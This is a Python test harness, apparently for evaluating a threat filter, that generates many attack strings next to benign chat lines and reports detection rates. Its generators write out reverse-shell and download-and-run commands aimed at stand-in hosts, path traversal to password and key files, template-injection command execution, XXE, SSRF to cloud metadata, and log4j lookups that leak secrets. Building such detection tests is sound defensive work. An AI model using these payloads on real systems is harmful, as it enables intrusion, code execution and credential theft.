        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0)'",
        f"busybox nc {host} {port} -e sh", f"sh -i >& /dev/udp/{host}/{port} 0>&1",
    ))


def sh_download(rng: random.Random, e: Inner) -> str:
    url = f"http://{rng.choice(('x.example', '203.0.113.7', 'evil.test'))}/{rng.choice(('s.sh', 'a', 'i.txt'))}"
    return f"{_value(rng)}{rng.choice((';', '|', '&&', '%0a', '$(', '`'))}" + rng.choice((
        f"curl -s {url}|bash", f"wget -O- {url}|sh", f"curl {url} -o /tmp/x;chmod +x /tmp/x;/tmp/x",
        f"wget {url} -O /tmp/a && sh /tmp/a", f"curl -fsSL {url} | sudo sh", "tftp -g -r a 10.0.0.9",
        "echo Y3VybCB4LmV4YW1wbGV8c2g= | base64 -d | sh",
    ))


SHELL = {
    "separator": sh_separator, "substitution": sh_substitution, "ifs": sh_ifs, "brace": sh_brace,
    "quote-split": sh_quote_split, "wildcard": sh_wildcard, "variables": sh_variables, "windows": sh_windows,
    "powershell": sh_powershell, "reverse": sh_reverse, "download": sh_download,
}

SHELL_INNER = (
    Inner("plain"),
    Inner("tab", sp=lambda rng: "\t"),
    Inner("upper-name", kw=lambda rng, w: w.upper() if rng.random() < 0.5 else w),  # Windows reads case-blind
    Inner("double-space", sp=lambda rng: "  "),
    Inner("backslash-name", kw=lambda rng, w: "\\" + w if w.isalpha() else w),
    Inner("absolute-name", kw=lambda rng, w: ("/bin/" if rng.random() < 0.5 else "/usr/bin/") + w if w.isalpha() else w),
)


# ---------------------------------------------------------------- path traversal

_UNIX_TARGETS = ("etc/passwd", "etc/shadow", "etc/hosts", "proc/self/environ", "proc/self/cmdline",
                 "var/log/apache2/access.log", "root/.bash_history", "home/ubuntu/.ssh/id_rsa", "etc/group",
                 "etc/nginx/nginx.conf", "var/www/html/.env", "etc/mysql/my.cnf", "proc/1/environ")
_WIN_TARGETS = ("windows/win.ini", "boot.ini", "windows/system32/drivers/etc/hosts", "inetpub/wwwroot/web.config",
                "windows/repair/sam", "windows/system32/config/sam")
_APP_TARGETS = ("WEB-INF/web.xml", ".env", "config/database.yml", ".git/config", "wp-config.php", "app/etc/env.php")


def _target(rng: random.Random) -> str:
    return rng.choice((*_UNIX_TARGETS, *_UNIX_TARGETS, *_WIN_TARGETS, *_APP_TARGETS))


def _climb(rng: random.Random, up: str, slash: str, target: str) -> str:
    depth = rng.randint(2, 9)
    return (up + slash) * depth + target.replace("/", slash)


def tr_plain(rng: random.Random, e: Inner) -> str:
    lead = rng.choice(("", "", "/var/www/images/", "file=", "/static/", "templates/", "./"))
    return lead + _climb(rng, "..", "/", e.kw(rng, _target(rng)))


def tr_backslash(rng: random.Random, e: Inner) -> str:
    slash = rng.choice(("\\", "\\\\", "/\\", "\\/"))
    return rng.choice(("", "c:\\inetpub\\", "..\\")) + _climb(rng, "..", slash, e.kw(rng, _target(rng)))


def tr_encoded_slash(rng: random.Random, e: Inner) -> str:
    slash = rng.choice(("%2f", "%2F", "%5c", "%5C"))
    return _climb(rng, "..", slash, e.kw(rng, _target(rng)))


def tr_encoded_dots(rng: random.Random, e: Inner) -> str:
    up = rng.choice(("%2e%2e", "%2E%2E", ".%2e", "%2e."))
    slash = rng.choice(("/", "%2f", "\\"))
    return _climb(rng, up, slash, e.kw(rng, _target(rng)))


def tr_double(rng: random.Random, e: Inner) -> str:
    up = rng.choice(("%252e%252e", "..", "%252E%252E"))
    slash = rng.choice(("%252f", "%255c", "%252F"))
    return _climb(rng, up, slash, e.kw(rng, _target(rng)))


def tr_strip_once(rng: random.Random, e: Inner) -> str:
    """What is left after a filter removes `../` once: `....//`, `..././`, `...\\.\\`."""
    up, slash = rng.choice((("....", "//"), ("...", "/./"), ("..", "././"), ("....", "\\\\"), ("..../", "/"),
                            (".%2e", "//")))
    return _climb(rng, up, slash, e.kw(rng, _target(rng)))


def tr_overlong(rng: random.Random, e: Inner) -> str:
    up, slash = rng.choice((("%c0%ae%c0%ae", "/"), ("..", "%c0%af"), ("..", "%c1%9c"), ("%c0%ae%c0%ae", "%c0%af"),
                            ("%e0%80%ae%e0%80%ae", "/"), ("..", "%e0%80%af"), ("%c0%2e%c0%2e", "%c0%2f"),
                            ("..", "%c0%5c")))
    return _climb(rng, up, slash, e.kw(rng, _target(rng)))


def tr_unicode(rng: random.Random, e: Inner) -> str:
    up, slash = rng.choice((("%uff0e%uff0e", "%u2215"), ("..", "%u2215"), ("..", "%u2216"),
                            ("\uff0e\uff0e", "/"), ("..", "\u2215"), ("%u002e%u002e", "%u002f")))
    return _climb(rng, up, slash, e.kw(rng, _target(rng)))


def tr_null(rng: random.Random, e: Inner) -> str:
    suffix = rng.choice(("%00.png", "%00.jpg", "\x00.txt", "%00", "%2500.html"))
    return _climb(rng, "..", "/", e.kw(rng, _target(rng))) + suffix


def tr_absolute(rng: random.Random, e: Inner) -> str:
    target = e.kw(rng, _target(rng))
    return rng.choice((f"/{target}", f"file:///{target}", f"C:\\{target.replace('/', chr(92))}",
                       f"\\\\localhost\\c$\\{target.replace('/', chr(92))}", f"file://localhost/{target}",
                       f"//{target}"))


def tr_wrapper(rng: random.Random, e: Inner) -> str:
    target = e.kw(rng, rng.choice(("index.php", "config.php", "../../../etc/passwd", "/etc/passwd")))
    return rng.choice((
        f"php://filter/convert.base64-encode/resource={target}", f"php://filter/read=string.rot13/resource={target}",
        "php://input", "expect://id", f"zip://uploads/a.zip%23{target}", f"phar://uploads/a.phar/{target}",
        "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWzFdKTs/Pg==",
        f"php://filter/zlib.deflate/convert.base64-encode/resource={target}",
    ))


TRAVERSAL = {
    "plain": tr_plain, "backslash": tr_backslash, "encoded-slash": tr_encoded_slash,
    "encoded-dots": tr_encoded_dots, "double": tr_double, "strip-once": tr_strip_once, "overlong": tr_overlong,
    "unicode": tr_unicode, "null": tr_null, "absolute": tr_absolute, "wrapper": tr_wrapper,
}

TRAVERSAL_INNER = (
    Inner("plain"),
    Inner("upper", kw=lambda rng, w: w.upper()),
    Inner("case", kw=mixed_case),
    Inner("dot-segments", kw=lambda rng, w: w.replace("/", "/./")),
    Inner("doubled-slashes", kw=lambda rng, w: w.replace("/", "//")),
    Inner("trailing-dot", kw=lambda rng, w: w + rng.choice((".", "/.", "%20", "::$DATA"))),
)


# ---------------------------------------------------------------- template injection

def tpl_math(rng: random.Random, e: Inner) -> str:
    a, b = rng.randint(3, 99), rng.randint(3, 99)
    s = e.sp(rng)
    return rng.choice((f"{{{{{s}{a}*{b}{s}}}}}", f"${{{s}{a}*{b}{s}}}", f"<%={s}{a}*{b}{s}%>", f"#{{{a}*{b}}}",
                       f"*{{{a}*{b}}}", f"{{{{{a}*'{b}'}}}}", f"@({a}*{b})", f"[[${{{a}*{b}}}]]", f"${{{{{a}*{b}}}}}",
                       f"{{{{={a}*{b}}}}}", f"{{{a}*{b}}}", f"#set($x={a}*{b})${{x}}", f"<%{s}= {a}*{b}{s}%>",
                       f"{{{{{s}{a}+{b}{s}}}}}", f"${{{a}*{b}}}{{{{{a}*{b}}}}}", f"{{% print({a}*{b}) %}}"))


def tpl_python(rng: random.Random, e: Inner) -> str:
    cmd = rng.choice(("id", "whoami", "cat /etc/passwd", "ls"))
    return rng.choice((
        "{{config.items()}}", "{{ config }}", "{{self.__init__.__globals__}}",
        "{{''.__class__.__mro__[1].__subclasses__()}}", "{{ ''.__class__.__base__.__subclasses__() }}",
        f"{{{{request.application.__globals__.__builtins__.__import__('os').popen('{cmd}').read()}}}}",
        f"{{{{cycler.__init__.__globals__.os.popen('{cmd}').read()}}}}",
        f"{{{{lipsum.__globals__['os'].popen('{cmd}').read()}}}}",
        f"{{{{joiner.__init__.__globals__.os.system('{cmd}')}}}}",
        f"{{% import os %}}{{{{os.popen('{cmd}').read()}}}}",
        f"${{self.module.cache.util.os.system('{cmd}')}}",
        f"{{{{namespace.__init__.__globals__.os.popen('{cmd}').read()}}}}",
        f"{{{{url_for.__globals__.os.popen('{cmd}').read()}}}}",
        "{{get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()}}",
    ))


def tpl_filters(rng: random.Random, e: Inner) -> str:
    """Names reached through filters and escapes instead of dots and underscores."""
    dunder = rng.choice(("\\x5f\\x5fclass\\x5f\\x5f", "__class__", "\\u005f\\u005fclass\\u005f\\u005f"))
    return rng.choice((
        f"{{{{request|attr('{dunder}')}}}}", f"{{{{()|attr('{dunder}')|attr('\\x5f\\x5fbase\\x5f\\x5f')}}}}",
        "{{request|attr(request.args.c)}}", "{{''|attr('__class__')|attr('__mro__')}}",
        "{{(request|attr('application'))['\\x5f\\x5fglobals\\x5f\\x5f']}}",
        "{{request['__cl'+'ass__']}}", "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
        "{% set x=request|attr('application') %}{{x}}",
    ))


def tpl_java(rng: random.Random, e: Inner) -> str:
    cmd = rng.choice(("id", "whoami", "calc", "touch /tmp/p"))
    return rng.choice((
        f"<#assign ex=\"freemarker.template.utility.Execute\"?new()>${{ex(\"{cmd}\")}}",
        f"${{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}",
        f"#{{T(java.lang.Runtime).getRuntime().exec('{cmd}')}}",
        f"__${{T(java.lang.Runtime).getRuntime().exec(\"{cmd}\")}}__::.x",
        f"#set($rt=$x.class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('{cmd}'))",
        f"%{{(#a=@java.lang.Runtime@getRuntime().exec('{cmd}'))}}",
        "${applicationScope}", "${pageContext.request.serverName}",
        f"${{''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(null,'{cmd}')}}",
        f"${{\"freemarker.template.utility.Execute\"?new()(\"{cmd}\")}}",
    ))


def tpl_other(rng: random.Random, e: Inner) -> str:
    cmd = rng.choice(("id", "whoami", "ls /"))
    return rng.choice((
        f"<%= system('{cmd}') %>", f"<%= `{cmd}` %>", f"<%= IO.popen('{cmd}').readlines() %>",
        f"{{{{_self.env.registerUndefinedFilterCallback(\"exec\")}}}}{{{{_self.env.getFilter(\"{cmd}\")}}}}",
        f"{{{{['{cmd}']|filter('system')}}}}", f"{{system('{cmd}')}}", "{php}echo `id`;{/php}",
        f"{{{{['{cmd}',1]|sort('system')|join}}}}",
        f"#{{global.process.mainModule.require('child_process').execSync('{cmd}')}}",
        "{{#with \"s\" as |string|}}{{string.sub.apply 0 codelist}}{{/with}}",
        f"{{{{constructor.constructor('return process')().mainModule.require('child_process').execSync('{cmd}')}}}}",
        f"<%- global.process.mainModule.require('child_process').execSync('{cmd}') %>",
        f"{{{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('{cmd}')\")() }}}}",
    ))


TEMPLATE = {"math": tpl_math, "python": tpl_python, "filters": tpl_filters, "java": tpl_java, "other": tpl_other}
TEMPLATE_INNER = (
    Inner("spaced", sp=lambda rng: " "),
    Inner("tight", sp=lambda rng: ""),
    Inner("padded", sp=lambda rng: rng.choice(("  ", "\t"))),
    Inner("newline", sp=lambda rng: "\n"),
)


# ---------------------------------------------------------------- LDAP, XPath, NoSQL

def ldap_filter(rng: random.Random, e: Inner) -> str:
    attr = rng.choice(("uid", "cn", "mail", "sAMAccountName", "userPassword", "objectClass", "sn"))
    name = rng.choice(("admin", "jdoe", "*", "x"))
    return rng.choice((
        f"{name})({attr}=*", f"*)({attr}=*))(|({attr}=*", f"{name})(|({attr}=*)", "*)(|(objectClass=*)",
        f"{name}*)((|{attr}=*)", f"{name})(!(objectClass=void)", "*))%00", f"{name})(&)", "*)(userPassword=*)",
        f"{name}*))(|(uid=*", f"*(|({attr}=*))",
    ))


def xpath_injection(rng: random.Random, e: Inner) -> str:
    return rng.choice((
        "' or '1'='1", "' or ''='", "x' or 1=1 or 'a'='a", "'] | //user/* | //a['", "' or count(/*)=1 or '",
        f"' and string-length(name(/*[1]))={rng.randint(3, 12)} and ''='", "' or name()='users' or 'x'='y",
        f"1 or substring(//user[1]/password,1,1)='{rng.choice('abc')}'", "')] | //* | //*[('",
        "' or contains(name(/*),'u') or '", "x' or position()=1 or 'a'='b",
    ))


def nosql_operator(rng: random.Random, e: Inner) -> str:
    field = rng.choice(("username", "password", "user", "email", "token"))
    op = rng.choice(("$ne", "$gt", "$regex", "$nin", "$exists", "$gte", "$in", "$not"))
    value = {"$ne": "null", "$gt": '""', "$regex": '"^a"', "$nin": "[]", "$exists": "true", "$gte": '""',
             "$in": '["admin"]', "$not": '{"$eq": "x"}'}[op]
    return rng.choice((
        f'{{"{field}": {{"{op}": {value}}}}}', f"{field}[{op}]={value.strip(chr(34))}",
        f'{{"{field}":{{"{op}":{value}}},"password":{{"$ne":null}}}}', f"{field}[{op}][]=x",
        f'{{"$or": [{{"{field}": "a"}}, {{"{field}": {{"{op}": {value}}}}}]}}',
        f"{field}%5B{op}%5D={value.strip(chr(34))}",
    ))


def nosql_js(rng: random.Random, e: Inner) -> str:
    t = rng.randint(1000, 9000)
    return rng.choice((
        f'{{"$where": "sleep({t})"}}', "$where=this.password.match(/.*/)", f"'; sleep({t}); var x='",
        "' || '1'=='1", "'; return true; var a='", "x' && this.password.length > 0 && 'a'=='a",
        '{"$where": "function() { return this.role == \'admin\' }"}', "1; return db.users.find()",
        '{"$expr": {"$eq": [1, 1]}}', '{"$function": {"body": "function() { return true }", "args": [], "lang": "js"}}',
        "'; while(true){}; var b='", "admin' || this.a != 'x",
    ))


INJECT_OTHER = {"ldap": ldap_filter, "xpath": xpath_injection, "nosql-operator": nosql_operator, "nosql-js": nosql_js}
INJECT_OTHER_INNER = (Inner("plain"), Inner("padded", sp=lambda rng: rng.choice(("  ", "\t"))),
                      Inner("newline", sp=lambda rng: "\n"), Inner("tight", sp=lambda rng: ""))


# ---------------------------------------------------------------- XXE

def xxe_file(rng: random.Random, e: Inner) -> str:
    root = rng.choice(("foo", "data", "r", "user", "svg"))
    target = rng.choice(("file:///etc/passwd", "file:///c:/windows/win.ini", "file:///proc/self/environ",
                         "php://filter/convert.base64-encode/resource=index.php", "expect://id"))
    decl = rng.choice(('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>', ""))
    name = rng.choice(("xxe", "x", "file", "e1"))
    return (f'{decl}<!DOCTYPE {root} [{e.sp(rng)}<!ENTITY {name} SYSTEM "{target}">{e.sp(rng)}]>'
            f"<{root}>&{name};</{root}>")


def xxe_parameter(rng: random.Random, e: Inner) -> str:
    host = rng.choice(("x.example", "203.0.113.7", "evil.test"))
    return rng.choice((
        f'<!DOCTYPE r [<!ENTITY % d SYSTEM "http://{host}/e.dtd"> %d;]><r/>',
        f'<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % file SYSTEM "file:///etc/hostname">'
        f'<!ENTITY % dtd SYSTEM "http://{host}/x.dtd">%dtd;]><data>&send;</data>',
        f'<!DOCTYPE foo PUBLIC "-//X//Y" "http://{host}/p.dtd"><foo/>',
        f'<!DOCTYPE x SYSTEM "http://{host}/x.dtd"><x>1</x>',
    ))


def xxe_expansion(rng: random.Random, e: Inner) -> str:
    """Entities that each hold several of the one before: a document that grows exponentially when parsed."""
    depth, width = rng.randint(3, 6), rng.randint(4, 10)
    entities = '<!ENTITY a0 "lol">' + "".join(
        f'<!ENTITY a{i} "' + f"&a{i - 1};" * width + '">' + e.sp(rng) for i in range(1, depth))
    return f'<?xml version="1.0"?><!DOCTYPE lolz [{entities}]><lolz>&a{depth - 1};</lolz>'


def xxe_xinclude(rng: random.Random, e: Inner) -> str:
    return rng.choice((
        '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>',
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xi="http://www.w3.org/2001/XInclude">'
        '<xi:include href="/etc/hosts" parse="text"/></svg>',
        '<?xml-stylesheet type="text/xsl" href="http://x.example/a.xsl"?><r/>',
    ))


def xxe_svg(rng: random.Random, e: Inner) -> str:
    return (f'<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY t SYSTEM "file:///etc/{rng.choice(("hostname", "passwd"))}">]>'
            '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><text x="0" y="20">&t;</text></svg>')


XXE = {"file": xxe_file, "parameter": xxe_parameter, "expansion": xxe_expansion, "xinclude": xxe_xinclude,
       "svg": xxe_svg}
XXE_INNER = (Inner("plain"), Inner("newlines", sp=lambda rng: "\n"), Inner("tight", sp=lambda rng: ""),
             Inner("tabs", sp=lambda rng: "\t"))


# ---------------------------------------------------------------- SSRF-style URLs

def _loopback(rng: random.Random) -> str:
    return rng.choice(("127.0.0.1", "127.1", "0", "0.0.0.0", "2130706433", "0x7f000001", "0177.0.0.1", "0x7f.1",
                       "[::1]", "[::]", "[0:0:0:0:0:ffff:127.0.0.1]", "127.000.000.001", "localhost", "017700000001"))


def _metadata(rng: random.Random) -> str:
    return rng.choice(("169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518",
                       "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "0xa9.0xfe.0xa9.0xfe",
                       "metadata.google.internal", "100.100.100.200", "[fd00:ec2::254]"))


def ssrf_metadata(rng: random.Random, e: Inner) -> str:
    path = rng.choice(("/latest/meta-data/iam/security-credentials/", "/latest/user-data", "/computeMetadata/v1/",
                       "/metadata/instance?api-version=2021-02-01", "/latest/api/token", "/openstack/latest/meta_data.json",
                       "/"))
    return f"{e.kw(rng, 'http')}://{_metadata(rng)}{path}"


def ssrf_loopback(rng: random.Random, e: Inner) -> str:
    port = rng.choice(("", ":22", ":6379", ":11211", ":2375", ":8500", ":9200", ":25"))
    path = rng.choice(("/admin", "/server-status", "/_cat/indices", "/v1.24/containers/json", "/actuator/env",
                       "/debug/pprof/", "/"))
    host = rng.choice(("2130706433", "0x7f000001", "0177.0.0.1", "0x7f.1", "127.1", "[::ffff:127.0.0.1]",
                       "017700000001", "0", "127.000.000.001", "[0:0:0:0:0:ffff:7f00:1]"))
    return f"{e.kw(rng, 'http')}://{host}{port}{path}"


def ssrf_scheme(rng: random.Random, e: Inner) -> str:
    return rng.choice((
        f"gopher://{_loopback(rng)}:6379/_%2A1%0D%0A%248%0D%0Aflushall%0D%0A",
        f"gopher://{_loopback(rng)}:25/_HELO%20x", f"dict://{_loopback(rng)}:11211/stats",
        f"ldap://{_loopback(rng)}:389/%0astats%0aquit", f"tftp://{_loopback(rng)}/x",
        "file:///etc/passwd", "jar:http://x.example/a.jar!/", "netdoc:///etc/passwd",
        f"sftp://{_loopback(rng)}:22/", f"ftp://{_loopback(rng)}/../../etc/passwd",
    ))


def ssrf_confusion(rng: random.Random, e: Inner) -> str:
    good = rng.choice(("example.com", "trusted.example", "api.partner.test"))
    inner = rng.choice((_metadata(rng), _loopback(rng)))
    return rng.choice((
        f"http://{good}@{inner}/", f"http://{inner}#@{good}/", f"http://{good}.{inner}.nip.io/",
        f"http://{inner}%23@{good}/", f"http://{good}%40{inner}/", f"http://{inner}\\@{good}/",
        f"http://{good}:80\\@{inner}/", f"http://{inner}:80#{good}",
    ))


SSRF = {"metadata": ssrf_metadata, "loopback": ssrf_loopback, "scheme": ssrf_scheme, "confusion": ssrf_confusion}
SSRF_INNER = (Inner("plain"), Inner("upper-scheme", kw=lambda rng, w: w.upper()), Inner("case", kw=mixed_case),
              Inner("https", kw=lambda rng, w: w + "s"))


# ---------------------------------------------------------------- log4j-style lookups

def _jndi_word(rng: random.Random, e: Inner) -> str:
    return "".join(e.kw(rng, c) for c in "jndi")


def _lookup_letter(rng: random.Random, letter: str) -> str:
    """One letter spelt as a lookup that yields it: a default, a case change, an unset variable."""
    return rng.choice((f"${{::-{letter}}}", f"${{lower:{letter}}}", f"${{upper:{letter}}}",
                       f"${{env:NOPE:-{letter}}}", f"${{sys:x:-{letter}}}", f"${{date:'{letter}'}}",
                       f"${{k8s:k5:-{letter}}}", f"${{main:\\x:-{letter}}}", f"${{ctx:x:-{letter}}}"))


def jndi_plain(rng: random.Random, e: Inner) -> str:
    proto = rng.choice(("ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http"))
    host = rng.choice(("x.example", "203.0.113.7:1389", "evil.test/a", "${hostName}.x.example"))
    return f"${{{_jndi_word(rng, e)}:{proto}://{host}/{rng.choice(('a', 'Exploit', 'o=x'))}}}"


def jndi_nested(rng: random.Random, e: Inner) -> str:
    word = "".join(_lookup_letter(rng, c) if rng.random() < 0.7 else c for c in "jndi")
    proto = "".join(_lookup_letter(rng, c) if rng.random() < 0.4 else c for c in rng.choice(("ldap", "rmi", "dns")))
    return f"${{{word}:{proto}://{rng.choice(('x.example', '203.0.113.7'))}/a}}"


def jndi_leak(rng: random.Random, e: Inner) -> str:
    """A lookup that only leaks a value through a DNS name: no `jndi` needed to see it."""
    secret = rng.choice(("${env:AWS_SECRET_ACCESS_KEY}", "${sys:java.version}", "${env:USER}", "${hostName}",
                         "${java:version}", "${env:DB_PASSWORD}"))
    return rng.choice((f"${{jndi:dns://{secret}.x.example/a}}", f"${{jndi:ldap://x.example/{secret}}}",
                       f"User-Agent: ${{jndi:ldap://{secret}.x.example/b}}", f"{secret}"))


def jndi_escaped(rng: random.Random, e: Inner) -> str:
    """The lookup's marks escaped the way a JSON or URL layer would undo them."""
    inner = f"jndi:ldap://{rng.choice(('x.example', '203.0.113.7'))}/a"
    return rng.choice((f"\\u0024\\u007b{inner}\\u007d", f"%24%7B{inner}%7D", f"%2524%257B{inner}%257D",
                       f"&#36;&#123;{inner}&#125;", f"$%7B{inner}%7D", f"\\x24\\x7b{inner}\\x7d"))


JNDI = {"plain": jndi_plain, "nested": jndi_nested, "leak": jndi_leak, "escaped": jndi_escaped}
JNDI_INNER = (Inner("plain"), Inner("upper", kw=lambda rng, c: c.upper()), Inner("case", kw=mixed_case))


# ---------------------------------------------------------------- benign: chat with the same characters

def ok_sql_talk(rng: random.Random, e: Inner) -> str:
    return rng.choice((
        "How do I write a query that selects users where age > 30 and country = 'FR'?",
        "Our report uses UNION ALL to join the two tables, is that slower than a join?",
        "I tried SELECT name FROM customers ORDER BY created_at DESC LIMIT 10 and it works",
        "Can you check why order #4412 shows a quantity of 0?",
        "The price is 3 or 4 euros depending on the size, isn't it?",
        "what's the difference between WHERE and HAVING in postgres",
        "Tom's account and Anna's account both show 'pending'",
        f"I'd like to order {rng.randint(2, 9)} more of item {rng.randint(100, 999)} -- same as last time",
        "Is it safe to use sleep(5) in a retry loop in Python?",
        "my favourite band is AC/DC -- what's yours?",
    ))


def ok_shell_talk(rng: random.Random, e: Inner) -> str:
    return rng.choice((
        "I ran ls -la in my home folder and the file is there",
        "To see my IP I use ip addr; on Windows it's ipconfig",
        "The build fails with 'make: *** [all] Error 2', any idea?",
        "cd ../project && npm install gives me an EACCES error",
        "Tea & biscuits at 4pm; see you there!",
        "Is the | character allowed in usernames?",
        "Our cron runs at 3am; last night it took 2 hours",
        "Could you send the invoice to me & my colleague?",
        "I keep my notes in ~/Documents/notes.txt",
        "rock & roll | jazz | blues: pick one",
    ))


def ok_markup_talk(rng: random.Random, e: Inner) -> str:
    return rng.choice((
        "How do I center a <div> with flexbox?",
        "Use <b>bold</b> or <i>italic</i> in the description field",
        "The page shows &amp; instead of & in the title",
        "Is 5 < 7 > 3 valid in JavaScript?",
        "My template prints {{ user.name }} but it's empty",
        "I love emoticons like <3 and :-)",
        "The docs say to add <meta charset=\"utf-8\"> at the top",
        "Why does my onClick handler fire twice in React?",
        "Price went from $10 to $12 (20% up) :(",
        "Our Jinja template uses {% for item in items %} to list them",
    ))


def ok_path_talk(rng: random.Random, e: Inner) -> str:
    return rng.choice((
        "The file is in C:\\Users\\anna\\Downloads\\report.pdf",
        "Please check ../docs/README.md for setup steps",
        "Our logs are in /var/log/myapp/app.log",
        "I moved the photos to D:\\Photos\\2023\\summer",
        "See https://example.com/help/articles/42 for details",
        "The config lives at ./config/settings.yaml",
        "Open http://localhost:3000 after npm start",
        "Upload the invoice as invoice_2024.pdf please",
        "I use %APPDATA% to store the settings on Windows",
        "Log4j 2.17 fixed the lookup bug, right?",
    ))


BENIGN = {"sql-talk": ok_sql_talk, "shell-talk": ok_shell_talk, "markup-talk": ok_markup_talk,
          "path-talk": ok_path_talk}
BENIGN_INNER = (Inner("plain"), Inner("as-typed"))


# ---------------------------------------------------------------- families and the split

Technique = Callable[[random.Random, Inner], str]


@dataclass(frozen=True)
class Family:
    name: str
    kind: str  # "attack" or "benign"
    techniques: dict[str, Technique]
    inner: Sequence[Inner]
    outer: bool = True  # whether outer layers apply


FAMILIES = (
    Family("sqli", "attack", SQL, SQL_INNER),
    Family("xss", "attack", XSS, XSS_INNER),
    Family("cmdi", "attack", SHELL, SHELL_INNER),
    Family("traversal", "attack", TRAVERSAL, TRAVERSAL_INNER),
    Family("ssti", "attack", TEMPLATE, TEMPLATE_INNER),
    Family("ldap-xpath-nosql", "attack", INJECT_OTHER, INJECT_OTHER_INNER),
    Family("xxe", "attack", XXE, XXE_INNER),
    Family("ssrf", "attack", SSRF, SSRF_INNER),
    Family("jndi", "attack", JNDI, JNDI_INNER),
    Family("ordinary", "benign", BENIGN, BENIGN_INNER, outer=False),
)


def _dealt(family: str, names: Sequence[str]) -> tuple[list[str], list[str]]:
    """`names` sorted by a hash of family and name, dealt in turn to tuning and validation."""
    ordered = sorted(names, key=lambda name: hashlib.sha256(f"{family}:{name}".encode()).hexdigest())
    return ordered[0::2], ordered[1::2]


def split(family: Family) -> dict[str, tuple[list[str], list[str], list[str]]]:
    """Per part: the technique names, inner evasion names and outer layer names it may use."""
    techniques = _dealt(family.name, list(family.techniques))
    inner = _dealt(family.name + "/inner", [i.name for i in family.inner])
    outer = _dealt(family.name + "/outer", list(OUTER)) if family.outer else ([], [])
    return {part: (techniques[h], inner[h], outer[h]) for h, part in enumerate(PARTS)}


@dataclass(frozen=True)
class Line:
    family: str
    kind: str
    part: str
    technique: str
    inner: str
    outer: str
    text: str


def lines(family: Family, part: str, count: int, seed: int) -> list[Line]:
    """Up to `count` distinct lines of one family's part (fewer when its grammar makes fewer)."""
    rng = random.Random(f"{seed}:{family.name}:{part}")
    techniques, inner_names, outer_names = split(family)[part]
    inners = [i for i in family.inner if i.name in inner_names]
    made: dict[str, Line] = {}
    for _ in range(count * 4):
        if len(made) >= count:
            break
        technique = techniques[len(made) % len(techniques)] if rng.random() < 0.5 else rng.choice(techniques)
        inner = rng.choice(inners)
        text = family.techniques[technique](rng, inner)
        outer = ""
        if outer_names and rng.random() < OUTER_SHARE:
            outer = rng.choice(outer_names)
            text = OUTER[outer](text)
        made.setdefault(text, Line(family.name, family.kind, part, technique, inner.name, outer, text))
    return sorted(made.values(), key=lambda line: line.text)


def flagged(threat: ThreatFilter, text: str) -> bool:
    verdict = threat.decide(text)
    return verdict.action is not Action.PASS or verdict.hints.alert


def main(families: Sequence[Family] = FAMILIES, description: str = __doc__.splitlines()[0]) -> None:
    """Print the share flagged per family (or technique) and part for `families` (another set reuses this)."""
    parser = argparse.ArgumentParser(description=description)
    parser.add_argument("--count", type=int, default=120, help="lines per family and part")
    parser.add_argument("--seed", type=int, default=11)
    parser.add_argument("--part", choices=(*PARTS, "both"), default="both")
    parser.add_argument("--show", type=int, default=0, help="misses / false alarms shown per family (tuning only)")
    parser.add_argument("--family", default="")
    parser.add_argument("--by-technique", action="store_true", help="a row per technique")
    parser.add_argument("--sink", choices=("plain", "html", "bot"), default="bot")
    args = parser.parse_args()
    threat = ThreatFilter(ThreatOptions(sink=args.sink))
    parts = [p for p in PARTS if args.part in (p, "both")]
    print(f"{'family':34} {'kind':7} " + " ".join(f"{p:>16}" for p in parts)
          + "   (share flagged; attacks should be, ordinary chat not)")
    totals: dict[tuple[str, str], list[int]] = {}
    for family in families:
        if args.family not in family.name:
            continue
        rows: dict[str, dict[str, list[int]]] = {}
        shown: list[Line] = []
        for part in parts:
            for line in lines(family, part, args.count, args.seed):
                hit = flagged(threat, line.text)
                wrong = hit != (family.kind == "attack")
                key = f"{family.name}/{line.technique}" if args.by_technique else family.name
                cell = rows.setdefault(key, {}).setdefault(part, [0, 0])
                cell[0] += 1
                cell[1] += hit
                total = totals.setdefault((family.kind, part), [0, 0])
                total[0] += 1
                total[1] += hit
                if wrong and part == TUNING and len(shown) < args.show:
                    shown.append(line)
        for key, cells in rows.items():
            text = " ".join(f"{cells[p][1] / cells[p][0]:7.1%} of {cells[p][0]:4d}" if p in cells else f"{'-':>16}"
                            for p in parts)
            print(f"{key:34} {family.kind:7} {text}")
        for line in shown:
            print(f"      {'missed' if family.kind == 'attack' else 'flagged'} [{line.technique}/{line.inner}"
                  f"{'/' + line.outer if line.outer else ''}]: {line.text!r}")
    print()
    for kind in ("attack", "benign"):
        cells = [f"{totals[(kind, p)][1] / totals[(kind, p)][0]:7.1%} of {totals[(kind, p)][0]:4d}"
                 for p in parts if (kind, p) in totals]
        if cells:
            print(f"{'all ' + kind:34} {'':7} " + " ".join(f"{c:>16}" for c in cells))


if __name__ == "__main__":
    main()
